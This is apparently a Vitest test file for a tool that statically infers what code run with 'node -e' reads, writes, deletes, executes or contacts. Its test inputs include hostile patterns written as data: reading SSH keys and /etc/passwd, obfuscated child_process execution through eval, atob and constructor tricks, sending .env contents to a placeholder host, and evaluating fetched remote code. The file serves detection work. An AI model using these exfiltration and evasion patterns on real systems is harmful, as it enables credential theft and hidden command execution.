import { describe, expect, test } from 'vitest';
import { effectsOfCode, sourcesOfCode } from '../test-support.ts';

const unseenCode = 'opaque: a program text that is known only when it runs';

function effectsOf(text: string): readonly string[] {
  return effectsOfCode('node -e', text);
}

describe('files', () => {
  test.each<[string, readonly string[]]>([
    ["require('fs').readFileSync('a', 'utf8')", ['read /w/a']],
    ["fs.readFileSync('a')", ['read /w/a']],
    ["const { writeFileSync: w } = require('node:fs'); w('a', 'x')", ['write /w/a']],
    ["import fs from 'fs'; fs.writeFileSync('a', fs.readFileSync('b'))", ['read /w/b', 'write /w/a']],
    ["import { unlink } from 'fs/promises'; await unlink('a')", ['delete /w/a']],
    ["require('fs').promises.unlink('a').then(() => console.log(1))", ['delete /w/a']],
    ["import('fs').then(f => f.unlinkSync('a'))", ['delete /w/a']],
    ["fs.rmSync('a')", ['delete /w/a']],
    ["fs.rmSync('a', { recursive: true, force: true })", ['execute rm -r -f -- a', 'delete /w/a and all under it']],
    ["require('fs-extra').removeSync('a')", ['execute rm -r -f -- a', 'delete /w/a and all under it']],
    ["fs.renameSync('a.txt', 'b')", ['delete /w/a.txt', 'write /w/b']],
    ["fs.cpSync('a', 'b', { recursive: true })", ['read /w/a and all under it', 'write /w/b and all under it']],
    ["fs.mkdirSync('a/b', { recursive: true })", ['write /w/a/b']],
    ["fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))", ['read /home/dev/.ssh/id_rsa']],
    ['fs.readFileSync(`${process.env.HOME}/x`)', ['read /home/dev/x']],
    ["fs.readFileSync(path.join('/etc', '/passwd'))", ['read /etc/passwd']],
    ["fs.readFileSync(path.resolve('a', '/etc/passwd'))", ['read /etc/passwd']],
    ["fs.readFileSync(path.join(__dirname, 'a'))", ['read /w/a']],
    ["for (const f of ['a', 'b']) fs.unlinkSync(f)", ['delete /w/a', 'delete /w/b']],
    ["['a', 'b'].forEach(f => fs.unlinkSync(f))", ['delete /w/a', 'delete /w/b']],
    ["['a', 'b'].forEach(fs.unlinkSync)", ['delete /w/a', 'delete /w/b']],
    ["fs.readdirSync('a').forEach(f => fs.unlinkSync('a/' + f))", ['read /w/a', 'delete /w/a/*']],
    ["require('./package.json').version", ['read /w/package.json']],
    ["let p = 'a'; if (x) p = 'b'; fs.readFileSync(p)", ['read /w/a', 'read /w/b']],
    ["let p = 'a'; { let p = 'b' } fs.readFileSync(p)", ['read /w/a']],
    ["Deno.writeTextFileSync('a', 'x')", ['write /w/a']],
    ["console.log(\"fs.unlinkSync('a')\") // fs.unlinkSync('b')", []],
    ["fs.existsSync('.env') && console.log(fs.statSync('a').size)", []],
    ["JSON.parse('{}'); /fs.rmSync/.test('x'); 'a'.replace(/b/g, 'c')", []],
    ["const s = new Set(); s.delete('a'); [1].map(String)", []],
  ])('%s', (text, expected) => {
    expect(effectsOf(text)).toEqual(expected);
  });
});

describe('programs and the network', () => {
  test.each<[string, readonly string[]]>([
    ["require('child_process').execSync('rm x')", ['execute rm x', 'delete /w/x']],
    ["const { exec } = require('child_process'); exec('id', (e, out) => console.log(out))", ['execute id']],
    [
      "const { spawn } = require('node:child_process'); spawn('rm', ['x'], { cwd: '/etc' })",
      ['execute rm x', 'delete /etc/x'],
    ],
    ["require('child_process').spawnSync('rm x', { shell: true })", ['execute rm x', 'delete /w/x']],
    ["require('child_' + 'process')['exec' + 'Sync']('id')", ['execute id']],
    ["globalThis.process.mainModule.require('child_process').execSync('id')", ['execute id']],
    ["[].constructor.constructor(\"require('child_process').execSync('id')\")()", ['execute id']],
    ['eval("child_process.execSync(\'id\')")', ['execute id']],
    ["(0, eval)(atob('Y2hpbGRfcHJvY2Vzcy5leGVjU3luYygnaWQnKQ=='))", ['execute id']],
    ['new Function("child_process.execSync(\'id\')")()', ['execute id']],
    ['setTimeout("child_process.execSync(\'id\')", 1)', ['execute id']],
    ["require('vm').runInThisContext(\"child_process.execSync('id')\")", ['execute id']],
    ["child_process.execSync(Buffer.from('6964', 'hex').toString())", ['execute id']],
    ["child_process.execSync(['r', 'm'].join('') + ' x')", ['execute rm x', 'delete /w/x']],
    ["fetch('https://a.example')", ['connect a.example']],
    ["fetch('https://a.example', { method: 'POST', body: 'x' })", ['send: connect a.example']],
    ["require('axios').post('https://a.example', {})", ['send: connect a.example']],
    ["require('https').get('https://a.example', r => r.pipe(process.stdout))", ['connect a.example']],
    ["new WebSocket('wss://a.example')", ['send: connect a.example']],
    ["require('net').connect(80, 'a.example')", ['send: connect a.example']],
    [
      "fetch('https://a.example/?q=' + fs.readFileSync('.env'))",
      ['read /w/.env', 'send: connect a.example', 'read /w/.env, which curl sends'],
    ],
    ["/x/.exec('y'); 'child_process'.length", []],
  ])('%s', (text, expected) => {
    expect(effectsOf(text)).toEqual(expected);
  });
});

describe('what is not seen', () => {
  test.each<[string, string]>([
    ['eval(process.argv[1])', unseenCode],
    ['new Function(x)()', unseenCode],
    ["child_process[x]('id')", 'opaque: a function that is known only when it runs'],
    ['require(x)', 'opaque: a module that is known only when it runs'],
    ["process.binding('spawn_sync')", 'opaque: what the interpreter is bound to'],
    ["fetch('https://a.example').then(r => r.text()).then(eval)", unseenCode],
    ['f(child_process.execSync)', 'opaque: a shell text that is known only when it runs'],
    ['const x: = 1', 'opaque: a program text with a syntax error'],
    ['with (fs) unlinkSync("a")', 'opaque: a program text with a syntax error'],
  ])('%s', (text, expected) => {
    expect(effectsOf(text)).toContain(expected);
  });

  test.each<[string, readonly string[]]>([
    ["require('./lib')", ['text', 'file']],
    ["require('lodash')", ['text']],
    ["fetch('https://a.example').then(r => r.text()).then(eval)", ['text', 'network']],
    ["eval(atob('MQ=='))", ['text', 'decoded']],
  ])('the code of %s comes from %s', (text, expected) => {
    expect(sourcesOfCode('node -e', text)).toEqual(expected);
  });
});
